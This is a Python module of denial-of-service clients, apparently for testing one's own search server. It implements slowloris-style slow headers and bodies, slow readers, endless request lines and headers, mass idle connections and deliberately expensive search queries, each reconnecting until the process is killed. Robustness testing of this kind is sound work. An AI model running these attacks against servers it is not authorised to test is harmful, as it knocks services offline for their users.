"""What do hostile clients do? Each attack is a number of connections that go on until they are stopped.

A connection that the server ends is opened again, after a pause: an attacker does not give up.
"""

import asyncio
import re
import resource
import socket
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass
from itertools import count, pairwise
from typing import Self
from urllib.parse import quote

SLOW_S = 1.0
"""Seconds between two bytes of a slow client."""

_PAUSE_S = 0.2  # before a connection is opened again
_LITTLE_BYTES = 4096  # room for what a slow reader has not read yet
_PIECE = b"a" * 16_384
_COMMON = tuple(
    re.findall(r"\S+", "của và các người là có trong không cho được những với một đã đến này khi để ra về")
)


@dataclass(frozen=True, slots=True)
class Target:
    """Where the server listens."""

    host: str
    port: int


Client = Callable[[Target, int], Awaitable[None]]
"""One connection from its opening to its end; the number tells the connections of an attack apart."""


@dataclass(frozen=True, slots=True)
class Attack:
    """So many connections at once that all behave alike."""

    name: str
    connections: int
    client: Client


def attack_on(attack: Attack, target: Target) -> None:
    """Attacks until the process is killed."""
    _, most_files = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most_files, most_files))
    asyncio.run(_run(attack, target))


async def _run(attack: Attack, target: Target) -> None:
    await asyncio.gather(*(_go_on(attack.client, target, number) for number in range(attack.connections)))


async def _go_on(client: Client, target: Target, number: int) -> None:
    for turn in count():
        with suppress(OSError, asyncio.IncompleteReadError):
            await client(target, number + turn)
        await asyncio.sleep(_PAUSE_S)


class _Connection:
    """A connection that can be read as slowly as one likes: the system buffers little of it."""

    def __init__(self, target: Target) -> None:
        self._target = target
        family = socket.AF_INET6 if ":" in target.host else socket.AF_INET
        self._socket = socket.socket(family, socket.SOCK_STREAM)
        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _LITTLE_BYTES)
        self._socket.setblocking(False)

    async def __aenter__(self) -> Self:
        await asyncio.get_running_loop().sock_connect(self._socket, (self._target.host, self._target.port))
        return self

    async def __aexit__(self, *_: object) -> None:
        self._socket.close()

    async def send(self, data: bytes) -> None:
        await asyncio.get_running_loop().sock_sendall(self._socket, data)

    async def read(self, most: int) -> bytes:
        """Waits for something to read.

        Raises:
            ConnectionResetError: the server has ended the connection.
        """
        data = await asyncio.get_running_loop().sock_recv(self._socket, most)
        if not data:
            raise ConnectionResetError
        return data

    async def dribble(self, byte: bytes) -> None:
        """Sends a byte again and again, slowly, until the server ends the connection."""
        sending = asyncio.ensure_future(self._send_slowly(byte))
        try:
            while True:
                await self.read(_LITTLE_BYTES)
        finally:
            sending.cancel()

    async def sip(self) -> None:
        """Reads a byte at a time, slowly, until the server ends the connection."""
        while True:
            await self.read(1)
            await asyncio.sleep(SLOW_S)

    async def _send_slowly(self, byte: bytes) -> None:
        with suppress(OSError):
            while True:
                await self.send(byte)
                await asyncio.sleep(SLOW_S)


async def _slow_head(target: Target, _number: int) -> None:
    async with _Connection(target) as connection:
        await connection.send(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
        await connection.dribble(b"a")


async def _slow_body(target: Target, _number: int) -> None:
    head = b"POST /api/search HTTP/1.1\r\nHost: localhost\r\nContent-Length: 16000\r\n\r\n"
    async with _Connection(target) as connection:
        await connection.send(head)
        await connection.dribble(b"a")


async def _slow_page(target: Target, number: int) -> None:
    async with _Connection(target) as connection:
        await connection.send(_get(f"/?size=100&q={quote(_COMMON[number % len(_COMMON)])}"))
        await connection.sip()


async def _slow_export(target: Target, number: int) -> None:
    async with _Connection(target) as connection:
        await connection.send(_get(f"/search.csv?q={quote(_COMMON[number % len(_COMMON)])}"))
        await connection.sip()


async def _endless_line(target: Target, _number: int) -> None:
    async with _Connection(target) as connection:
        await connection.send(b"GET /?q=")
        while True:
            await connection.send(_PIECE)


async def _endless_head(target: Target, _number: int) -> None:
    async with _Connection(target) as connection:
        await connection.send(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
        for number in count():
            await connection.send(b"X-%d: %s\r\n" % (number, _PIECE[:1000]))


async def _idle(target: Target, _number: int) -> None:
    async with _Connection(target) as connection:
        await connection.read(1)


async def _slow_query(target: Target, number: int) -> None:
    reader, writer = await asyncio.open_connection(target.host, target.port)
    try:
        writer.write(_get(f"/?q={quote(slow_query(number))}", b"Connection: close\r\n"))
        while await reader.read(65_536):
            pass
    finally:
        writer.close()


def slow_query(number: int) -> str:
    """One of the slowest queries within a thousand characters: many windows of common words.

    >>> slow_query(3)[:36]
    '"có trong"~90 OR "trong không"~90 OR'
    """
    words = [_COMMON[(number * 5 + place) % len(_COMMON)] for place in range(49)]
    windows = " OR ".join(f'"{one} {two}"~90' for one, two in pairwise(words))
    return windows[:1000].rpartition(" OR ")[0]


def _get(path: str, headers: bytes = b"") -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: localhost\r\n".encode() + headers + b"\r\n"


ATTACKS = (
    Attack("slow heads", 200, _slow_head),
    Attack("slow bodies", 200, _slow_body),
    Attack("slow readers of pages", 60, _slow_page),
    Attack("slow readers of exports", 30, _slow_export),
    Attack("endless request lines", 20, _endless_line),
    Attack("endless heads", 20, _endless_head),
    Attack("idle connections", 1000, _idle),
    Attack("the slowest queries", 8, _slow_query),
)
